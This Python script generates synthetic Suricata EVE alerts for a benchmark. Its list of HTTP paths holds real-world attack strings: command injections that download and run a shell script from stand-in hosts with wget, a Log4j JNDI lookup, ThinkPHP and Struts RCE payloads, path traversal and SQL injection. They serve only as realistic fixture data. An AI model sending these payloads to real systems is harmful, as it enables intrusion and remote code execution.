"""GENERATED benchmark data: synthetic Suricata EVE alerts, not real traffic.

Writes EVE JSON (one `event_type: alert` object per line, as Suricata's eve.json does)
to a file named `generated-eve-alerts.json`. Every value is made up from a fixed random
seed, so two runs write the same bytes. The records follow the shape of Suricata 7's
alerts (compare ../shared/data/real/suricata-sample-data/), about 1 KB each:

- `alert` with action, gid, signature_id, rev, signature, category, severity and, as
  ET Open rules carry it, `metadata`; a few hundred signatures in the style of ET Open
  and Suricata's own decoder rules, with Zipf-like frequencies (a few rules are most
  of the traffic), each with its category, protocol, usual ports and app protocol;
- `flow` (packets, bytes, start) on every alert, `http` on web alerts, `tls` on TLS
  ones, `ssh`/`dns`/`smb` app_proto on others; `flow_id`, `in_iface`, `direction`;
- three sensors (`host`) writing local time with their UTC offset (+0900, +0000,
  -0500); attackers from a large public-looking pool (about 5% IPv6, with an IPv6
  target), targets from a small internal pool;
- alerts come in sessions, as on a real sensor: single hits, repeats of one
  (signature, attacker, target, port) a few seconds apart (brute force, exploit
  retries: these aggregate), and scans across many targets; sessions start over
  three days with a day/night rhythm, and the file is in time order.
"""

from __future__ import annotations

import ipaddress
import itertools
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import orjson

FILE_NAME = "generated-eve-alerts.json"
SEED = 20240801
#: 2024-08-01T00:00:00Z: the generated alerts start here.
START_S = 1_722_470_400
DAYS = 3

#: (signature template, category, severity, protocol, ports, app_proto)
_RULES: tuple[tuple[str, str, int, str, tuple[int, ...], str | None], ...] = (
    ("ET SCAN Suspicious inbound to {svc} port {port}", "Potentially Bad Traffic", 2, "TCP", (), None),
    ("ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", (22,), "ssh"),
    ("ET SCAN NMAP -sS window {n}", "Attempted Information Leak", 2, "TCP", (), None),
    ("ET SCAN Zmap User-Agent (Inbound)", "Detection of a Network Scan", 2, "TCP", (80, 8080), "http"),
    ("ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1, "TCP", (80, 443), "http"),
    ("ET POLICY {svc} Brute Force Attempt", "Attempted User Privilege Gain", 1, "TCP", (), None),
    ("ET POLICY SSH session in progress on Unusual Port", "Misc activity", 3, "TCP", (2222,), "ssh"),
    ("ET WEB_SERVER {product} {flaw} Attempt", "Web Application Attack", 1, "TCP", (80, 8080), "http"),
    (
        "ET EXPLOIT {product} {flaw} (CVE-{cve})",
        "Attempted Administrator Privilege Gain",
        1,
        "TCP",
        (80, 443, 8443),
        "http",
    ),
    (
        "ET WEB_SPECIFIC_APPS {product} SQL Injection Attempt",
        "Web Application Attack",
        1,
        "TCP",
        (80,),
        "http",
    ),
    ("ET INFO Observed Suspicious TLS SNI (.{tld})", "Potentially Bad Traffic", 2, "TCP", (443,), "tls"),
    (
        "ET MALWARE Observed {family} Domain in TLS SNI",
        "Domain Observed Used for C2 Detected",
        1,
        "TCP",
        (443,),
        "tls",
    ),
    ("ET MALWARE Possible {family} CnC Beacon", "A Network Trojan was detected", 1, "TCP", (80, 443), "http"),
    ("ET DOS Possible {svc} Amplification Attack Inbound", "Attempted Denial of Service", 2, "UDP", (), None),
    (
        "ET DNS Query for .{tld} TLD - Potentially Bad Traffic",
        "Potentially Bad Traffic",
        2,
        "UDP",
        (53,),
        "dns",
    ),
    ("ET CINS Active Threat Intelligence Poor Reputation IP group {n}", "Misc Attack", 2, "TCP", (), None),
    ("ET DROP Dshield Block Listed Source group 1", "Misc Attack", 2, "TCP", (), None),
    ("ET COMPROMISED Known Compromised or Hostile Host Traffic group {n}", "Misc Attack", 2, "TCP", (), None),
    (
        "ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 ({variant})",
        "Attempted Administrator Privilege Gain",
        1,
        "TCP",
        (445,),
        "smb",
    ),
    ("GPL ICMP_INFO PING {os}", "Misc activity", 3, "ICMP", (), None),
    ("ET ICMP Large ICMP Packet", "Potentially Bad Traffic", 2, "ICMP", (), None),
    ("SURICATA STREAM {stream}", "Generic Protocol Command Decode", 3, "TCP", (), None),
    ("SURICATA HTTP {http_anomaly}", "Generic Protocol Command Decode", 3, "TCP", (80,), "http"),
    ("SURICATA TLS {tls_anomaly}", "", 3, "TCP", (443,), "tls"),
)
_SERVICES = (("MSSQL", 1433), ("MySQL", 3306), ("RDP", 3389), ("SSH", 22), ("Telnet", 23), ("VNC", 5900))
_UDP_SERVICES = (("DNS", 53), ("NTP", 123), ("SSDP", 1900), ("Memcached", 11211), ("CLDAP", 389))
_PRODUCTS = (
    "Apache Struts",
    "Apache Log4j",
    "Oracle WebLogic",
    "Atlassian Confluence",
    "Citrix ADC",
    "F5 BIG-IP",
    "PHPUnit",
    "ThinkPHP",
    "Spring Cloud Gateway",
    "Zimbra",
    "Jenkins",
    "GitLab",
    "VMware vCenter",
    "WordPress",
)
_FLAWS = ("Remote Code Execution", "Path Traversal", "Command Injection", "Deserialization", "Auth Bypass")
_FAMILIES = ("Mirai", "Emotet", "Cobalt Strike", "AsyncRAT", "Sliver", "QakBot", "Remcos", "Lumma Stealer")
_TLDS = ("top", "xyz", "tk", "cn", "ru", "su", "zip")
_OSES = ("Windows", "Linux", "BSDtype", "NMAP", "Cisco Type.x")
_STREAMS = (
    "Packet with invalid ack",
    "ESTABLISHED packet out of window",
    "3way handshake SYNACK with wrong ack",
    "Packet with invalid timestamp",
    "excessive retransmissions",
    "reassembly overlap with different data",
)
_HTTP_ANOMALIES = (
    "unable to match response to request",
    "invalid request chunk len",
    "METHOD terminated by non-compliant character",
)
_TLS_ANOMALIES = ("invalid handshake message", "invalid record/traffic", "certificate invalid length")
_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Hello, world",
)
_PATHS = (
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.7%2Ft%7Csh%60)",
    "/wp-login.php",
    "/.env",
    "/api/v1/users?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/actuator/gateway/routes/hacktest",
    "/struts2-showcase/%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29%7D/actionChain1.action",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/",
    "/favicon.ico",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws",
    "/solr/admin/cores?action=${jndi:ldap://203.0.113.44:1389/Exploit}",
)
_HOSTNAMES = (
    "www.example-shop.kr",
    "api.example-shop.kr",
    "portal.example.co.kr",
    "10.20.1.15",
    "cdn.example.jp",
)
#: (host, UTC offset, interface, share of the traffic)
_SENSORS = (
    ("ids-seoul-1", 9, "ens5", 70),
    ("ids-frankfurt-1", 0, "eth0", 20),
    ("ids-virginia-1", -5, "eth1", 10),
)


@dataclass(frozen=True, slots=True)
class Rule:
    signature: str
    signature_id: int
    rev: int
    category: str
    severity: int
    protocol: str
    ports: tuple[int, ...]
    app_proto: str | None
    metadata: dict[str, list[str]] | None


@dataclass(frozen=True, slots=True)
class Target:
    ip: str
    hostname: str


def _rules(rng: random.Random) -> list[Rule]:
    out: dict[str, Rule] = {}
    sids = itertools.count(2_030_000, 37)
    for template, category, severity, protocol, ports, app_proto in _RULES:
        for _ in range(rng.randrange(4, 30) if "{" in template else 1):
            svc, port = rng.choice(_UDP_SERVICES if protocol == "UDP" else _SERVICES)
            name = template.format(
                svc=svc,
                port=port,
                n=rng.randrange(1, 100),
                product=rng.choice(_PRODUCTS),
                flaw=rng.choice(_FLAWS),
                cve=f"{rng.randrange(2017, 2025)}-{rng.randrange(1000, 50000)}",
                family=rng.choice(_FAMILIES),
                tld=rng.choice(_TLDS),
                os=rng.choice(_OSES),
                variant=rng.choice(("Vulnerable", "Not Vulnerable")),
                stream=rng.choice(_STREAMS),
                http_anomaly=rng.choice(_HTTP_ANOMALIES),
                tls_anomaly=rng.choice(_TLS_ANOMALIES),
            )
            if name in out:
                continue
            suricata = name.startswith("SURICATA")
            metadata = None
            if not suricata:
                created = f"{rng.randrange(2010, 2024)}_{rng.randrange(1, 13):02d}_{rng.randrange(1, 29):02d}"
                metadata = {
                    "affected_product": [
                        rng.choice(
                            (
                                "Any",
                                "Web_Server_Applications",
                                "Linux",
                                "Windows_XP_Vista_7_8_10_Server_32_64_Bit",
                            )
                        )
                    ],
                    "attack_target": [rng.choice(("Client_Endpoint", "Server", "Web_Server", "SMB_Server"))],
                    "created_at": [created],
                    "deployment": ["Perimeter"],
                    "signature_severity": [rng.choice(("Major", "Minor", "Informational", "Critical"))],
                    "updated_at": [f"2024_{rng.randrange(1, 8):02d}_{rng.randrange(1, 29):02d}"],
                }
            out[name] = Rule(
                signature=name,
                signature_id=rng.randrange(2_200_000, 2_230_000) if suricata else next(sids),
                rev=rng.randrange(1, 12),
                category=category,
                severity=severity,
                protocol=protocol,
                ports=ports or ((port,) if protocol != "ICMP" else ()),
                app_proto=app_proto,
                metadata=metadata,
            )
    names = sorted(out)
    rng.shuffle(names)
    return [out[n] for n in names]


def _attackers(rng: random.Random, size: int) -> tuple[list[str], list[str]]:
    """(IPv4 pool, IPv6 pool) of public-looking addresses."""
    v4: set[str] = set()
    v6: set[str] = set()
    while len(v4) + len(v6) < size:
        if rng.random() < 0.05:
            prefix = rng.choice((0x2A01, 0x2400, 0x2600, 0x2803, 0x2C0F, 0x2001))
            v6.add(str(ipaddress.IPv6Address((prefix << 112) | rng.getrandbits(112))))
        else:
            addr = ipaddress.IPv4Address(rng.getrandbits(32))
            if addr.is_global and not addr.is_multicast:
                v4.add(str(addr))
    return _shuffled(rng, v4), _shuffled(rng, v6)


def _shuffled(rng: random.Random, items: set[str]) -> list[str]:
    out = sorted(items)
    rng.shuffle(out)
    return out


def _targets(rng: random.Random) -> tuple[list[Target], list[Target]]:
    v4 = [
        Target(
            f"10.{rng.randrange(10, 40)}.{rng.randrange(256)}.{rng.randrange(2, 255)}", rng.choice(_HOSTNAMES)
        )
        for _ in range(400)
    ]
    v6 = [
        Target(
            f"2406:da12:{rng.randrange(0x10000):x}:{rng.randrange(0x10000):x}::{rng.randrange(1, 0x10000):x}",
            rng.choice(_HOSTNAMES),
        )
        for _ in range(40)
    ]
    return v4, v6


def _zipf(n: int, s: float) -> list[float]:
    return [1.0 / (k**s) for k in range(1, n + 1)]


@dataclass(frozen=True, slots=True)
class Session:
    rule: Rule
    attacker: str
    target: Target
    port: int | None
    scan: bool
    sensor: int


def _sessions(rng: random.Random, alerts: int) -> tuple[list[Session], list[int]]:
    """Sessions, and every alert as `time_us << 24 | session index`, in time order."""
    rules = _rules(rng)
    attackers_v4, attackers_v6 = _attackers(rng, 120_000)
    noisy = attackers_v4[:800]
    targets_v4, targets_v6 = _targets(rng)
    rule_weights = _zipf(len(rules), 1.05)
    target_weights = _zipf(len(targets_v4), 0.8)
    noisy_weights = _zipf(len(noisy), 1.0)
    hour_weights = [0.6 + 0.4 * (1 if 0 <= h < 10 else 0) + 0.2 * rng.random() for h in range(24)]
    hour_cum = list(itertools.accumulate(hour_weights[h % 24] for h in range(DAYS * 24)))
    sensor_weights = [share for *_, share in _SENSORS]
    sessions: list[Session] = []
    stamps: list[int] = []
    while len(stamps) < alerts:
        rule = rng.choices(rules, rule_weights)[0]
        v6 = rng.random() < 0.05
        if v6:
            attacker, target = rng.choice(attackers_v6), rng.choice(targets_v6)
        else:
            attacker = (
                rng.choices(noisy, noisy_weights)[0] if rng.random() < 0.4 else rng.choice(attackers_v4)
            )
            target = rng.choices(targets_v4, target_weights)[0]
        kind = rng.random()
        scan = kind >= 0.92
        size = 1 if kind < 0.6 else (rng.randrange(2, 60) if not scan else rng.randrange(5, 150))
        port = rng.choice(rule.ports) if rule.ports else None
        index = len(sessions)
        sessions.append(Session(rule, attacker, target, port, scan, rng.choices(range(3), sensor_weights)[0]))
        hour = rng.choices(range(DAYS * 24), cum_weights=hour_cum)[0]
        start_us = (START_S + hour * 3600) * 1_000_000 + rng.randrange(3_600_000_000)
        gap_us = rng.choice((200_000, 2_000_000, 8_000_000))
        t = start_us
        for _ in range(min(size, alerts - len(stamps))):
            stamps.append(t << 24 | index)
            t += int(rng.expovariate(1 / gap_us)) + 1
    stamps.sort()
    return sessions, stamps


def _timestamp(time_us: int, offset_h: int, zones: dict[int, timezone]) -> str:
    local = datetime.fromtimestamp(time_us // 1_000_000, zones[offset_h]) + timedelta(
        microseconds=time_us % 1_000_000
    )
    sign = "+" if offset_h >= 0 else "-"
    return f"{local:%Y-%m-%dT%H:%M:%S.%f}{sign}{abs(offset_h):02d}00"


def _tls(rng: random.Random, target: Target) -> dict[str, object]:
    serial = ":".join(f"{rng.getrandbits(8):02X}" for _ in range(8))
    return {
        "subject": f"C=KR, ST=Seoul, O=Example Shop Co., Ltd., CN={target.hostname}",
        "issuerdn": "C=US, O=Let's Encrypt, CN=R11",
        "serial": serial,
        "fingerprint": ":".join(f"{rng.getrandbits(8):02x}" for _ in range(20)),
        "sni": target.hostname,
        "version": rng.choice(("TLS 1.2", "TLS 1.3")),
        "notbefore": "2024-06-12T03:11:52",
        "notafter": "2024-09-10T03:11:51",
        "ja3": {"hash": f"{rng.getrandbits(128):032x}"},
    }


def _http(rng: random.Random, target: Target) -> dict[str, object]:
    status = rng.choice((200, 200, 301, 403, 404, 404, 500))
    record: dict[str, object] = {
        "hostname": target.hostname,
        "url": rng.choice(_PATHS),
        "http_user_agent": rng.choice(_USER_AGENTS),
        "http_content_type": "text/html",
        "http_method": rng.choice(("GET", "GET", "POST", "HEAD")),
        "protocol": "HTTP/1.1",
        "status": status,
        "length": rng.randrange(0, 20_000),
    }
    if rng.random() < 0.3:
        record["http_refer"] = f"http://{target.hostname}/"
    return record


def generate(out_dir: Path, alerts: int, seed: int = SEED) -> Path:
    """Write `alerts` generated EVE alerts to out_dir/generated-eve-alerts.json."""
    rng = random.Random(seed)
    sessions, stamps = _sessions(rng, alerts)
    zones = {h: timezone(timedelta(hours=h)) for _, h, _, _ in _SENSORS} | {0: UTC}
    flows: dict[int, int] = {}
    path = out_dir / FILE_NAME
    with path.open("wb") as f:
        for stamp in stamps:
            time_us, index = stamp >> 24, stamp & 0xFFFFFF
            s = sessions[index]
            rule = s.rule
            host, offset_h, iface, _ = _SENSORS[s.sensor]
            target_ip, port = s.target.ip, s.port
            if s.scan:  # a scan walks the /24 (or the /64) and, without a fixed port, the ports
                stem, _, _ = target_ip.rpartition("." if "." in target_ip else ":")
                target_ip = (
                    f"{stem}.{rng.randrange(1, 255)}"
                    if "." in target_ip
                    else f"{stem}:{rng.randrange(1, 0xFFFF):x}"
                )
                if rule.protocol != "ICMP" and not rule.app_proto:
                    port = rng.choice(
                        (22, 23, 80, 443, 445, 1433, 3306, 3389, 5900, 8080, rng.randrange(1, 65536))
                    )
            flow_id = flows.get(index) if not s.scan and rng.random() < 0.5 else None
            if flow_id is None:
                flow_id = rng.getrandbits(51)
                flows[index] = flow_id
            pkts_out, pkts_in = rng.randrange(1, 40), rng.randrange(0, 40)
            start = _timestamp(time_us - rng.randrange(0, 3_000_000), offset_h, zones)
            record: dict[str, object] = {
                "timestamp": _timestamp(time_us, offset_h, zones),
                "flow_id": flow_id,
                "in_iface": iface,
                "event_type": "alert",
                "src_ip": s.attacker,
                "dest_ip": target_ip,
                "proto": rule.protocol,
            }
            if rule.protocol != "ICMP":
                record["src_port"] = rng.randrange(1024, 65536)
                record["dest_port"] = port
            else:
                record["icmp_type"], record["icmp_code"] = 8, 0
            record["pkt_src"] = "wire/pcap"
            record["host"] = host
            if rule.app_proto in ("http", "tls"):
                record["tx_id"] = rng.randrange(0, 4)
            alert: dict[str, object] = {
                "action": "blocked" if rng.random() < 0.15 else "allowed",
                "gid": 1,
                "signature_id": rule.signature_id,
                "rev": rule.rev,
                "signature": rule.signature,
                "category": rule.category,
                "severity": rule.severity,
            }
            if rule.metadata is not None:
                alert["metadata"] = rule.metadata
            record["direction"] = "to_server"
            record["alert"] = alert
            if rule.app_proto == "http":
                record["http"] = _http(rng, s.target)
            elif rule.app_proto == "tls":
                record["tls"] = _tls(rng, s.target)
            if rule.app_proto is not None:
                record["app_proto"] = rule.app_proto
            record["flow"] = {
                "pkts_toserver": pkts_out,
                "pkts_toclient": pkts_in,
                "bytes_toserver": pkts_out * rng.randrange(60, 1400),
                "bytes_toclient": pkts_in * rng.randrange(60, 1400),
                "start": start,
                "src_ip": s.attacker,
                "dest_ip": target_ip,
                "src_port": record.get("src_port"),
                "dest_port": record.get("dest_port"),
            }
            f.write(orjson.dumps(record))
            f.write(b"\n")
    return path
